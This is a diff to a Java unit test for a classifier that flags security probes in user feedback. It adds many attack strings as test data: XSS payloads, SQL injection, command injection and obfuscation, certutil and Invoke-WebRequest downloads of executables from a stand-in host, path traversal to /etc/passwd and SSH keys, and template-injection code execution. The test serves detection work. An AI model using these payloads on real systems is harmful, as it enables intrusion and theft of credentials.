@@ -165,6 +165,96 @@ class FeedbackClassifierTest {
         assertThat(result.severity()).as("severity").isEqualTo(c.severity());
     }
 
+    /** The shapes the issue that rewrote the classifier named as missed, or as flagged in real feedback. */
+    static Stream<Arguments> namedShapes() {
+        return Stream.of(
+                shape("' onfocus=alert(1) autofocus '", SCRIPT),
+                shape("<meta http-equiv=refresh content=\"0;url=https://phish.example/\">", SCRIPT),
+                shape("<link rel=import href=//evil.example/x.html>", SCRIPT),
+                shape("<embed src=//evil.example/x.swf>", SCRIPT),
+                shape("<style>@import 'javascript:alert(1)';</style>", SCRIPT),
+                shape("<div style=\"-moz-binding:url(//evil.example/x.xml#x)\">", SCRIPT),
+                shape("<form><button formaction=javascript:alert(1)>go</button></form>", SCRIPT),
+                shape("window[\"alert\"](1)", SCRIPT),
+                shape("alert`1`", SCRIPT),
+                shape("setInterval('alert(1)', 100)", SCRIPT),
+                shape("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]", SCRIPT),
+                shape("%u003Cscript%u003Ealert(1)%u003C/script%u003E", SCRIPT),
+                shape("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", SCRIPT),
+                shape("<a href=\"java&Tab;script:alert(1)\">x</a>", SCRIPT),
+                shape("1 AND BENCHMARK(5000000,MD5(1))", SQL),
+                shape("1) AND pg_sleep(5)--", SQL),
+                shape("1 AND SLEEP(5)", SQL),
+                shape("' GROUP BY id HAVING 1=1 --", SQL),
+                shape("EXECUTE IMMEDIATE 'DROP TABLE audit'", SQL),
+                shape("DECLARE @v VARCHAR(8000);SET @v='whoami';EXEC(@v)", SQL),
+                shape("' AND '1'::jsonb IS NOT NULL--", SQL),
+                shape("'{\"a\":1}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb", SQL),
+                shape("username[$ne]=x&password[$ne]=x", SQL),
+                shape("{\"$where\": \"sleep(5000)\"}", SQL),
+                shape("1 union/*!50000select*/ 1,2", SQL),
+                shape("' OR 2>1 --", SQL),
+                shape("time ifconfig", COMMAND),
+                shape("; lastlog", COMMAND),
+                shape("certutil -urlcache -split -f http://x.example/x.exe x.exe", COMMAND),
+                shape("Invoke-WebRequest -Uri http://x.example/x -OutFile x.exe", COMMAND),
+                shape("FOR /F \"tokens=*\" %i IN ('whoami') DO echo %i", COMMAND),
+                shape("IF EXIST C:\\Windows\\System32 (echo found)", COMMAND, PATH),
+                shape("w'h'o'am'i", COMMAND),
+                shape("/usr/bin/[u]name -a", COMMAND),
+                shape("{id,}", COMMAND),
+                shape(">(id)", COMMAND),
+                shape("cat${IFS}/etc/passwd", COMMAND, PATH),
+                shape("c$@at /etc/passwd", COMMAND, PATH),
+                shape("/root/.ssh/id_rsa", PATH),
+                shape("/proc/self/environ", PATH),
+                shape(".env", PATH),
+                shape("/.git/config", PATH),
+                shape("../web.config", PATH),
+                shape("wp-config.php", PATH),
+                shape("..;/WEB-INF/web.xml", PATH),
+                shape("..\\..\\..\\windows\\win.ini", PATH),
+                shape("0x2e0x2e/0x2e0x2e/etc/passwd", PATH),
+                shape("..%c0%af..%c0%afetc/passwd", PATH),
+                shape("<%= File.open('/etc/passwd').read %>", TEMPLATE, PATH),
+                shape("#{session.setAttribute(\"x\",\"y\")}", TEMPLATE),
+                shape("{% import os %}{{ os.popen('id').read() }}", TEMPLATE),
+                shape("@(System.Diagnostics.Process.Start(\"calc\"))", TEMPLATE),
+                shape("{$smarty.version}", TEMPLATE),
+                shape("{{['id']|filter('system')}}", TEMPLATE),
+                shape("{{ request|attr('application') }}", TEMPLATE),
+                shape("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", TEMPLATE),
+                shape("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", TEMPLATE),
+                shape("${T(java.lang.Runtime).getRuntime().exec('id')}", TEMPLATE),
+                shape("{{ ().__class__.__bases__[0].__subclasses__() }}", TEMPLATE),
+                // Real feedback: quoted code, pasted terminals and drawings are not probes.
+                shape("print('done')  # prints before the request finishes, the docs example is wrong"),
+                shape("When I write 'TODO' -- followed by a note, the editor converts -- into an em dash."),
+                shape("In the markdown editor, typing \"### Heading\" after a quote like 'Intro' ### breaks the line."),
+                shape("The import fails: import config from '../../config'; Module not found: Can't resolve it"),
+                shape("My environment:\nSHELL=/bin/zsh\nTERM=xterm-256color\nHOME=/Users/dana"),
+                shape("I run docker run --rm -u $(id -u):$(id -g) -v $PWD:/work image and it fails with permission denied."),
+                shape("Bug: <script type=\"module\"> tags are not executed in the embed preview"),
+                shape("Progress: [==================================================>    ] 91% and then it stops"),
+                shape("Export is stuck at ████████████████████████████████████████████████████████░░ 93%"),
+                shape("Steps:\n------------------------------------------------------------------\nSave fails."),
+                shape("This link fails: https://app.example.com/reports?" + "columns=id,name,email&".repeat(30)));
+    }
+
+    @ParameterizedTest(name = "[{index}] {0}")
+    @MethodSource("namedShapes")
+    void findsTheNamedShapesAndLeavesRealFeedbackAlone(String message, List<SecurityClass> classes) {
+        Classification result = FeedbackClassifier.classify(message).classification();
+
+        assertThat(result.securityClasses()).as("security classes").containsExactlyElementsOf(classes);
+        assertThat(result.findings()).as("each class explained")
+                .extracting(f -> f.securityClass()).containsAll(classes);
+        assertThat(result.findings()).as("findings name the rule and what it matched").allSatisfy(f -> {
+            assertThat(f.rule()).startsWith(f.securityClass().name().toLowerCase() + ".");
+            assertThat(f.excerpt()).isNotBlank().hasSizeLessThanOrEqualTo(80);
+        });
+    }
+
     @Test
     void theTableHoldsAtLeastEightyRealisticInputs() {
         assertThat(table().count()).isGreaterThanOrEqualTo(80);
@@ -187,7 +277,8 @@ class FeedbackClassifierTest {
     void normalizationUndoesLayeredEncodings() {
         assertThat(FeedbackClassifier.normalize("%253Cscript%253E")).isEqualTo("<script>");
         assertThat(FeedbackClassifier.normalize("&#x3c;IMG&#62;")).isEqualTo("<img>");
-        assertThat(FeedbackClassifier.normalize("caf%C3%A9  \t UNION/**/SELECT")).isEqualTo("café union select");
+        assertThat(FeedbackClassifier.normalize("caf%C3%A9  \t UNION/**/SELECT")).isEqualTo("café union/**/select");
+        assertThat(FeedbackClassifier.normalize("%u003Cimg%uFF1E &Tab;+ADw-b+AD4-")).isEqualTo("<img> <b>");
     }
 
     private static String fingerprint(String message) {
@@ -204,6 +295,10 @@ class FeedbackClassifierTest {
 
     private static Arguments probe(String message, Severity severity, SecurityClass... classes) {
         return Arguments.of(new Case(message, List.of(classes), SECURITY_PROBE, severity));
+    }
+
+    private static Arguments shape(String message, SecurityClass... classes) {
+        return Arguments.of(message, List.of(classes));
     }
 
     private static Arguments ordinary(String message, SignalCategory signal, Severity severity) {
